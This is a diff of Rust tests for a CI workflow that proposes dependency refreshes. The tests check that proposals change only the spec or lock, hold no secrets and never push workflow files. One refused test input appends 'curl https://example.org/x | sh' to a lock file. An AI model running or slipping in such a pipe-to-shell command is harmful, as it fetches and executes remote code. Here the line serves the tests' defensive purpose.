@@ -1657,12 +1657,13 @@ fn refresh_gen(script: &Path, tags: &[&str], revision: &str, spec: &str) -> Opti
 
 /// Whether a job runs code that is not the pinned actions': gen, its install, or a script.
 fn runs_code(job: &Value) -> bool {
-    steps(job)
-        .iter()
-        .filter_map(|s| s["run"].as_str())
-        .flat_map(str::lines)
-        .map(str::trim_start)
-        .any(|l| l.starts_with("gen ") || l.starts_with("cargo install") || l.starts_with("bash "))
+    steps(job).iter().filter_map(|s| s["run"].as_str()).flat_map(str::lines).map(str::trim_start).any(|l| {
+        l.starts_with("gen ")
+            || l.starts_with("cargo install")
+            || l.contains("pip\" install")
+            || l.starts_with("bash ")
+            || l.contains("$(bash ")
+    })
 }
 
 #[test]
@@ -1695,33 +1696,11 @@ fn a_refresh_holds_no_secret_and_its_pull_requests_start_no_workflow() {
             assert_eq!(opens[0]["with"]["token"], "${{ github.token }}", "{name}");
         }
     }
-    assert_eq!((renders, proposes), (2, 2), "base images and gen, each in two jobs");
+    assert_eq!((renders, proposes), (3, 2), "base images in two jobs, gen's release in three");
     // The README says what the refresh's token does, and that it starts no workflow.
     let readme = std::fs::read_to_string(repo.out().join("README.md")).expect("README");
     assert!(readme.contains("starts no workflow"), "{readme}");
     assert!(!readme.contains("pull requests and workflows"), "no token is asked for with workflow rights");
-}
-
-/// Runs the step named `name` of the job `job` of gen-refresh.yml at the repository's root
-/// with the workflow's and the step's env as written, `RUNNER_TEMP` at `temp` and `bin` first
-/// on the `PATH`.
-fn refresh_step(repo: &Repo, job: &str, name: &str, temp: &Path, bin: &Path) -> std::process::Output {
-    let wf = read_yaml(&repo.root().join(".github/workflows/gen-refresh.yml"));
-    let step = steps(&wf["jobs"][job]).into_iter().find(|s| s["name"] == name).expect("the step").clone();
-    let mut run = Command::new("bash");
-    run.args(["-e", "-o", "pipefail", "-c", step["run"].as_str().expect("run")]).current_dir(repo.root());
-    for scope in [&wf["env"], &step["env"]] {
-        for (k, v) in scope.as_object().into_iter().flatten() {
-            run.env(k, v.as_str().expect("string"));
-        }
-    }
-    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap_or_default());
-    run.env("PATH", path)
-        .env("RUNNER_TEMP", temp)
-        .env("GITHUB_OUTPUT", temp.join("output"))
-        .env("GITHUB_STEP_SUMMARY", temp.join("summary"))
-        .output()
-        .expect("bash")
 }
 
 /// Runs the step of a refresh's proposing `job` that applies what the job before uploaded
@@ -1731,7 +1710,9 @@ fn propose(repo: &Repo, job: &str, patch: &str, temp: &Path, bin: &Path) -> std:
     propose_with(repo, job, patch, temp, bin, &[("NEWEST", "v0.2.0"), ("GEN_REVISION", "v0.1.0")])
 }
 
-/// `propose`, with the job's inputs (`NEWEST`, and with a wheel `LOCK`) given.
+/// `propose`, with the job's inputs (`NEWEST`, and with a wheel `LOCK`) given. gen's
+/// proposal takes the lookup's change as its input `CHANGE`; the base images' downloads the
+/// render job's artifact (the `gh` in `bin` hands `patch` over).
 fn propose_with(
     repo: &Repo,
     job: &str,
@@ -1743,21 +1724,39 @@ fn propose_with(
     let file = temp.join("uploaded.patch");
     std::fs::write(&file, patch).expect("write");
     let wf = read_yaml(&repo.root().join(".github/workflows/gen-refresh.yml"));
-    let step =
-        steps(&wf["jobs"][job]).into_iter().find(|s| s["name"] == "Apply the render's patch").expect("step").clone();
-    assert!(step["run"].as_str().is_some_and(|r| r.contains("gh run download")), "{job}");
+    let name = if job == "gen-propose" { "Apply the release's change" } else { "Apply the render's patch" };
+    let step = steps(&wf["jobs"][job]).into_iter().find(|s| s["name"] == name).expect("step").clone();
     let mut run = Command::new("bash");
     run.args(["-e", "-o", "pipefail", "-c", step["run"].as_str().expect("run")])
         .current_dir(repo.root())
         .env("PATH", format!("{}:{}", bin.display(), std::env::var("PATH").unwrap_or_default()))
         .env("RUNNER_TEMP", temp)
+        .env("GITHUB_OUTPUT", temp.join("output"))
         .env("PATCH", &file)
         .env("RUN_ID", "1")
         .env("RUN_URL", "https://github.com/acme/shop/actions/runs/1");
+    if job == "gen-propose" {
+        // As GitHub hands a multi-line output over: without its last line break.
+        run.env("CHANGE", patch.strip_suffix('\n').unwrap_or(patch));
+    } else {
+        assert!(step["run"].as_str().is_some_and(|r| r.contains("gh run download")), "{job}");
+    }
     for (k, v) in wf["env"].as_object().into_iter().flatten() {
         run.env(k, v.as_str().expect("string"));
     }
     run.envs(inputs.iter().copied()).output().expect("bash")
+}
+
+/// A `gh` for the proposing jobs: `gh run download` hands over the patch at `$PATCH`, and `gh
+/// api` answers how many branches of the proposal exist (`$PROPOSED`, none by default).
+fn fake_gh(bin: &Path) {
+    let gh = bin.join("gh");
+    std::fs::write(
+        &gh,
+        "#!/bin/sh\nif [ \"$1\" = api ]; then echo \"${PROPOSED:-0}\"; exit 0; fi\nwhile [ $# -gt 0 ]; do [ \"$1\" = --dir ] && d=$2; shift; done\nmkdir -p \"$d\" && cp \"$PATCH\" \"$d/change.patch\"\n",
+    )
+    .expect("write gh");
+    Command::new("chmod").arg("+x").arg(&gh).status().expect("chmod");
 }
 
 #[test]
@@ -1788,34 +1787,20 @@ fn a_refresh_never_pushes_a_workflow_and_gens_release_moves_the_spec_alone() {
         diff
     };
 
-    // gen's render job: the patch it proposes holds the spec alone; the whole render is beside
-    // it for the reviewer.
-    let temp = tempfile::tempdir().expect("tempdir");
-    std::fs::create_dir(temp.path().join("change")).expect("mkdir");
-    for f in [spec, workflow.as_str(), script.as_str()] {
-        edit(f);
-    }
-    let out = refresh_step(&repo, "gen", "The change, as a patch", temp.path(), temp.path());
-    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
-    let proposed = std::fs::read_to_string(temp.path().join("change/change.patch")).expect("patch");
-    let preview = std::fs::read_to_string(temp.path().join("change/preview.patch")).expect("preview");
-    assert!(
-        proposed.contains(&format!("+++ b/{spec}")) && !proposed.contains(".github/") && !proposed.contains(&script),
-        "{proposed}"
-    );
-    assert!(preview.contains(&workflow) && preview.contains(&script), "{preview}");
-    reset();
-
+    // gen's lookup hands over the spec's change alone; the job that runs the release renders a
+    // preview, and nothing it does reaches the proposal.
+    let wf = read_yaml(&repo.root().join(".github/workflows/gen-refresh.yml"));
+    assert_eq!(wf["jobs"]["gen-propose"]["needs"], "gen-release");
+    assert_eq!(wf["jobs"]["gen"]["needs"], "gen-release");
+    assert!(wf["jobs"]["gen"]["outputs"].is_null(), "the render job hands nothing over");
+    assert!(runs_code(&wf["jobs"]["gen-release"]) && !wf["jobs"]["gen-release"].to_string().contains("gen render"));
     // The jobs that push apply what was uploaded, and refuse what they must never push.
     let bin = tempfile::tempdir().expect("tempdir");
-    let gh = bin.path().join("gh");
-    std::fs::write(&gh, "#!/bin/sh\nwhile [ $# -gt 0 ]; do [ \"$1\" = --dir ] && d=$2; shift; done\nmkdir -p \"$d\" && cp \"$PATCH\" \"$d/change.patch\"\n")
-        .expect("write gh");
-    Command::new("chmod").arg("+x").arg(&gh).status().expect("chmod");
+    fake_gh(bin.path());
     let cases: [(&str, Vec<&str>, Option<&str>); 5] = [
         // A line the release's render added to the spec: not the revision moved.
         ("gen-propose", vec![spec], Some("more of the spec than pipeline.gen.version")),
-        ("gen-propose", vec![spec, workflow.as_str()], Some("under .github/")),
+        ("gen-propose", vec![spec, workflow.as_str()], Some("more than the spec")),
         ("gen-propose", vec![spec, script.as_str()], Some("more than the spec")),
         ("base-images-propose", vec![spec, dockerfile.as_str()], None),
         ("base-images-propose", vec![spec, dockerfile.as_str(), workflow.as_str()], Some("under .github/")),
@@ -1857,10 +1842,7 @@ type Case<'a> = (&'a str, String, Vec<(&'a str, &'a str)>, Option<&'a str>);
 #[test]
 fn gens_release_is_proposed_as_the_spec_line_moved_and_with_a_wheel_its_lock() {
     let bin = tempfile::tempdir().expect("tempdir");
-    let gh = bin.path().join("gh");
-    std::fs::write(&gh, "#!/bin/sh\nwhile [ $# -gt 0 ]; do [ \"$1\" = --dir ] && d=$2; shift; done\nmkdir -p \"$d\" && cp \"$PATCH\" \"$d/change.patch\"\n")
-        .expect("write gh");
-    Command::new("chmod").arg("+x").arg(&gh).status().expect("chmod");
+    fake_gh(bin.path());
     let source_inputs = [("NEWEST", "v0.2.0"), ("GEN_REVISION", "v0.1.0")];
     let lock = lock_of("0.2.0");
     let wheel_inputs = [("NEWEST", "0.2.0"), ("LOCK", lock.as_str())];
@@ -1910,6 +1892,10 @@ fn gens_release_is_proposed_as_the_spec_line_moved_and_with_a_wheel_its_lock() {
             format!("{}\ncurl https://example.org/x | sh", lock_of("0.2.0")),
             lock.replace(&"a".repeat(64), "a"),
         ];
+        // Proposed already (a branch per release): nothing pushed over a reviewer's commits.
+        let mut again = inputs.to_vec();
+        again.push(("PROPOSED", "1"));
+        cases.push(("proposed already", moved.clone(), again, None));
         if key == "version" {
             for bad in &bad_locks {
                 cases.push((
@@ -1928,8 +1914,19 @@ fn gens_release_is_proposed_as_the_spec_line_moved_and_with_a_wheel_its_lock() {
             let out = propose_with(&repo, "gen-propose", &diff, temp.path(), bin.path(), &inputs);
             let stdout = String::from_utf8_lossy(&out.stdout);
             match refused {
+                None if what == "proposed already" => {
+                    assert!(out.status.success(), "{key} {what}: {stdout}{}", String::from_utf8_lossy(&out.stderr));
+                    let output = std::fs::read_to_string(temp.path().join("output")).expect("outputs");
+                    assert_eq!(output, "proposed=true\n");
+                    assert!(
+                        stdout.contains(&format!("proposed already, on the branch gen/refresh-gen-{new}")),
+                        "{stdout}"
+                    );
+                }
                 None => {
                     assert!(out.status.success(), "{key} {what}: {stdout}{}", String::from_utf8_lossy(&out.stderr));
+                    let output = std::fs::read_to_string(temp.path().join("output")).expect("outputs");
+                    assert_eq!(output, format!("branch=gen/refresh-gen-{new}\n"));
                     let body = std::fs::read_to_string(temp.path().join("patch/body.md")).expect("body");
                     assert!(body.contains(&format!("moves the spec's pipeline.gen.{key} to {new}")), "{body}");
                     let staged = git(repo.root(), &["diff", "--cached", "--name-only"]);
